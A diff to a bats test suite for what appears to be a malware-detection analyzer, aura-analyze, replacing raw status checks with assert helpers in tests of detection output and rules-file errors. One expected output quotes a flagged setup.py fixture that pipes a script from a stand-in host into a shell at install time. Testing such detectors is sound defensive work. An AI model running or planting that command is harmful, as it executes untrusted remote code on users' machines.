@@ -256,7 +256,7 @@ PY
 	assert_success
 	assert_valid_records
 	# The second hit is the DownloadAndRun string signature of the same command.
-	[ "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" = "file,ast,hit,hit" ]
+	assert_equal "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" "file,ast,hit,hit"
 	printf '%s\n' "$output" | records_of_type hit | jq -c 'select(.detection == "ShellCommand")' >hit.json
 	run jq -c '[.stage, .artifact, .detection, .score, .severity, .path, .line, .col, .file, .name, .context, .tags, .evidence, .message]' hit.json
 	assert_output '["aura-analyze","a","ShellCommand",100,"high","setup.py",2,0,"a:0","os.system","install",["process","install-time"],"os.system('"'"'curl http://evil.example/x.sh | sh'"'"')","os.system() runs a shell command at install time"]'
@@ -348,26 +348,26 @@ PY
 @test "malformed rules files: a clear message with the line, exit 2" {
 	printf 'version: 1\ncalls:\n  - detection: X\n    names: [a\n' >syntax.yaml
 	run --separate-stderr aura-analyze --rules syntax.yaml </dev/null
-	[ "$status" -eq 2 ]
+	assert_failure 2
 	[[ "$stderr" == "aura-analyze: syntax.yaml:"[0-9]*":"[0-9]*": "* ]]
 	printf 'version: 1\ncalls:\n  - detection: X\n    names: a.b\n    sevrity: high\n' >key.yaml
 	run --separate-stderr aura-analyze --rules key.yaml </dev/null
-	[ "$status" -eq 2 ]
+	assert_failure 2
 	[[ "$stderr" == "aura-analyze: key.yaml:5:5: unknown rule key 'sevrity'"* ]]
 	printf 'version: 1\ncalls:\n  - {detection: X, names: a, category: c, severity: huge, score: 1, message: m}\n' >sev.yaml
 	run --separate-stderr aura-analyze --rules sev.yaml </dev/null
-	[ "$status" -eq 2 ]
+	assert_failure 2
 	[[ "$stderr" == *"sev.yaml:3:"*"severity 'huge'"* ]]
 	printf 'version: 1\ncalls:\n  - {detection: X, names: a, severity: low, score: 1, message: m}\n' >missing.yaml
 	run --separate-stderr aura-analyze --rules missing.yaml </dev/null
-	[ "$status" -eq 2 ]
+	assert_failure 2
 	[[ "$stderr" == *"missing.yaml:3:5: rule without 'category'"* ]]
 	printf 'version: 1\ncalls:\n  - {detection: X, names: "a*b", category: c, severity: low, score: 1, message: m}\n' >star.yaml
 	run --separate-stderr aura-analyze --rules star.yaml </dev/null
-	[ "$status" -eq 2 ]
+	assert_failure 2
 	[[ "$stderr" == *"star.yaml:3:"*"trailing '*'"* ]]
 	run --separate-stderr aura-analyze --rules does-not-exist.yaml </dev/null
-	[ "$status" -eq 2 ]
+	assert_failure 2
 	[[ "$stderr" == *"does-not-exist.yaml: cannot open rules file"* ]]
 }
 
@@ -392,7 +392,7 @@ PY
 	run --separate-stderr aura-analyze <in.ndjson
 	assert_success
 	assert_valid_records
-	[ "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" = "artifact,error,ast,hit" ]
+	assert_equal "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" "artifact,error,ast,hit"
 	[[ "$stderr" == *"<stdin>:2:"* ]]
 }
 
